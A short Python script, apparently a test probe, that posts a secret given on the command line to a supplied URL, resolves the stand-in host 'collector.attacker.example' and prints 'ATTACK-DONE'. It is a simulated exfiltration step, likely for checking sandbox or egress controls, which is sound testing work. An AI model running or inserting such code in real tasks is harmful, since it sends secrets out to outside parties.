"""Posts a secret to a web hook: webhook.py URL SECRET"""
import socket
import sys
import urllib.request

url, secret = sys.argv[1:3]
try:
    urllib.request.urlopen(url, data=secret.encode(), timeout=5).read()
    print("post: ok")
except OSError as error:
    print("post:", error)
try:
    socket.getaddrinfo("collector.attacker.example", 443)
except OSError as error:
    print("lookup:", error)
print("ATTACK-DONE")
